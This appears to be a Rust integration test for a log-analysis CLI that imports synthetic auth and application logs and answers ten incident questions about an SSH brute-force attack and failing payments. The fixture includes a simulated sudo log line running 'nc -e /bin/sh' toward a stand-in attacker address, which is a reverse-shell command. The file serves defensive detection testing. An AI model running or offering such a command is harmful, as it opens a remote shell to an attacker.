//! What an operator asks after a night with alarms, answered by the command line alone.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail by panicking")]

use std::{
    fs,
    path::Path,
    process::{Command, Stdio},
};

use serde_json::{Value as Json, json};
use testkit::{Server, eventually};

const BINARY: &str = env!("CARGO_BIN_EXE_log-sentinel");

/// Two hours of two machines: in the second somebody guesses passwords on one, and a service on the other fails.
fn logs(folder: &Path) {
    let mut auth = String::new();
    let mut line = |minute: u32, second: u32, text: &str| {
        let (hour, minute) = (10 + minute / 60, minute % 60);
        auth.push_str(&format!("2024-06-01T{hour}:{minute:02}:{second:02}Z web-1 {text}\n"));
    };
    for minute in 0..120 {
        line(
            minute,
            0,
            &format!("CRON[{}]: pam_unix(cron:session): session opened for user root", 900 + minute),
        );
        if minute % 10 == 5 {
            line(minute, 7, "sshd[41]: Accepted publickey for alice from 10.1.2.3 port 50022 ssh2");
        }
        if minute == 30 {
            line(minute, 30, "ntpd[7]: clock stepped by 3 seconds");
        }
        if (80..90).contains(&minute) {
            for second in 10..14 {
                let port = 40_000 + minute * 100 + second;
                line(
                    minute,
                    second,
                    &format!("sshd[77]: Failed password for root from 192.0.2.7 port {port} ssh2"),
                );
            }
        }
        if minute == 90 {
            line(minute, 1, "sshd[78]: Accepted password for root from 192.0.2.7 port 51000 ssh2");
            line(
                minute,
                2,
                "sudo: root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 192.0.2.7",
            );
        }
    }
    fs::write(folder.join("auth.log"), auth).unwrap();
    let mut app = String::new();
    for minute in 0..120 {
        let fails = (95..99).contains(&minute);
        let event = json!({
            "@timestamp": format!("2024-06-01T{}:{:02}:20Z", 10 + minute / 60, minute % 60),
            "log.level": if fails { "error" } else { "info" },
            "message": if fails { "payment refused: =timeout of bank" } else { "payment taken" },
            "service.name": if minute % 2 == 0 { "checkout" } else { "billing" },
            "host.name": "app-1",
            "trace.id": format!("t-{}", minute / 3),
        });
        app.push_str(&format!("{event}\n"));
    }
    fs::write(folder.join("app.json"), app).unwrap();
}

/// What the program prints.
fn said(folder: &Path, url: &str, arguments: &[&str]) -> String {
    let mut command = Command::new(BINARY);
    command.args(arguments).args(["--url", url]).current_dir(folder).env_clear().env("HOME", folder);
    let output = command.stdin(Stdio::null()).output().unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(output.status.success(), "{arguments:?}: {text}{}", String::from_utf8_lossy(&output.stderr));
    text
}

/// The lines of a text, with single blanks.
fn lines(text: &str) -> Vec<String> {
    text.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect()
}

#[tokio::test]
async fn ten_questions_are_answered_from_the_command_line() {
    let folder = tempfile::tempdir().unwrap();
    logs(folder.path());
    let server = Server::start(Path::new(BINARY), &folder.path().join("state"), &[]).unwrap();
    let ask = |arguments: &[&str]| said(folder.path(), &server.url, arguments);
    ask(&["import", "auth.log", "app.json"]);
    let total = 120 + 12 + 1 + 40 + 2 + 120;
    eventually("all are there", async || (server.count("*").await.ok()? == total).then_some(())).await;
    assert_eq!(ask(&["count"]), format!("{total}\n"));

    // 1. Who attacked?
    let attackers = lines(&ask(&["top", "source.ip", "event.outcome:failure", "source:sshd"]));
    assert_eq!(attackers[..2], ["COUNT SHARE VALUE", "40 100 % 192.0.2.7"], "{attackers:?}");

    // 2. Which hosts?
    let hosts = lines(&ask(&["top", "host"]));
    assert_eq!(hosts[1..], ["175 59.3 % web-1", "120 40.7 % app-1", "2 of 2 values in 295 events"]);

    // 3. What changed between two hours?
    let hours = ["--from", "2024-06-01T11", "--to", "2024-06-01T12", "--compare-from", "2024-06-01T10"];
    let changes = ask(&[&["patterns"], &hours[..]].concat());
    let of = |change: &str| changes.lines().filter(|line| line.starts_with(change)).collect::<Vec<_>>();
    assert!(of("new").iter().any(|line| line.contains("Failed password")), "{changes}");
    assert!(of("new").iter().any(|line| line.contains("payment refused")), "{changes}");
    assert!(of("gone").iter().any(|line| line.contains("clock stepped")), "{changes}");
    assert!(!changes.contains("pam_unix(cron:session)"), "as often as before: {changes}");

    // 4. Which messages are the most frequent, which are rare?
    let frequent = lines(&ask(&["patterns", "-n", "2"]));
    assert!(frequent[1].starts_with("120 ") && frequent[1].contains("session opened"), "{frequent:?}");
    let rare = ask(&["patterns", "--order", "rare", "-n", "3"]);
    assert!(rare.contains("nc -e") || rare.contains("COMMAND="), "{rare}");
    assert!(rare.contains("clock stepped"), "{rare}");

    // 5. When was it seen first: a message, an address?
    let newest = lines(&ask(&["patterns", "--order", "newest", "-n", "1"]));
    assert!(
        newest[1].contains("2024-06-01T11:35:20Z") && newest[1].contains("payment refused"),
        "{newest:?}"
    );
    let first = ask(&["query", "source.ip:192.0.2.7", "--oldest-first", "-n", "1", "--fields", "@timestamp"]);
    assert_eq!(first, "2024-06-01T11:20:10Z\n");

    // 6. How many errors had each service over time?
    let errors = ask(&["histogram", "level:>=error", "--by", "source", "--interval", "1h"]);
    let expected = ["TIME COUNT billing checkout", "2024-06-01T11:00:00Z 4 2 2", "4 events in buckets of 1h"];
    assert_eq!(lines(&errors), expected);
    let local = ["--zone", "Asia/Kolkata"];
    let days = ask(&[&["histogram", "payment", "--interval", "1d"], &local[..]].concat());
    assert!(days.starts_with("2024-06-01T00:00:00+05:30  120  ###"), "{days}");
    let hours = ask(&["histogram", "payment", "level:error", "--interval", "30s"]);
    assert_eq!(hours.lines().count(), 8, "empty buckets stand between others: {hours}");
    let shown =
        ask(&[&["query", "nc", "--fields", "timestamp", "--from", "2024-06-01T17:00"], &local[..]].concat());
    assert_eq!(shown, "2024-06-01T17:00:02+05:30\n");
    let table = ask(&[&["query", "nc", "-o", "csv", "--fields", "timestamp"], &local[..]].concat());
    assert_eq!(table, "timestamp\r\n2024-06-01T17:00:02+05:30\r\n");

    // 7. What stood around this event?
    let found = ask(&["query", "nc", "-o", "ndjson"]);
    let hit: Json = serde_json::from_str(&found).unwrap();
    let id = format!("_id:{}", hit["_id"].as_str().unwrap());
    let around = ask(&["query", &id, "--context", "1", "--fields", "@timestamp,message"]);
    let around = lines(&around);
    assert!(around[0].contains("11:30:01Z Accepted password for root"), "{around:?}");
    assert!(around[1].starts_with("> 2024-06-01T11:30:02Z") && around[1].contains("nc -e"), "{around:?}");
    assert!(around[2].contains("11:31:00Z pam_unix(cron:session)"), "{around:?}");

    // 8. What did one user, one session do?
    let user =
        ask(&["query", "user.name:root", "source:(sshd OR sudo)", "--oldest-first", "--fields", "source"]);
    assert_eq!(lines(&user), [vec!["sshd"; 41], vec!["sudo"]].concat());
    let session = ask(&["query", "trace.id:t-32", "--oldest-first", "--fields", "@timestamp,level"]);
    let expected = ["11:36", "11:37", "11:38"].map(|minute| format!("2024-06-01T{minute}:20Z error"));
    assert_eq!(lines(&session), expected);

    // 9. Give me that as CSV.
    let table =
        ask(&["query", "level:error", "--oldest-first", "-o", "csv", "--fields", "timestamp,source,message"]);
    let rows: Vec<_> = table.split_terminator("\r\n").collect();
    assert_eq!(
        rows[..2],
        ["timestamp,source,message", "2024-06-01T11:35:20Z,billing,payment refused: =timeout of bank"]
    );
    assert_eq!(rows.len(), 5);
    let whole = ask(&["query", "-o", "csv", "--all"]);
    assert_eq!(whole.split_terminator("\r\n").count() as u64, total + 1);

    // 10. Why is it an anomaly, and what is like it?
    let strange: Json = serde_json::from_str(&ask(&["query", &id, "-o", "json"])).unwrap();
    let sentinel = &strange["hits"][0]["sentinel"];
    assert!(sentinel["anomaly"]["score"].is_number(), "{strange}");
    let like = format!("sentinel.template.id:{}", sentinel["template"]["id"].as_str().unwrap());
    assert_eq!(ask(&["count", &like]), "1\n");
}
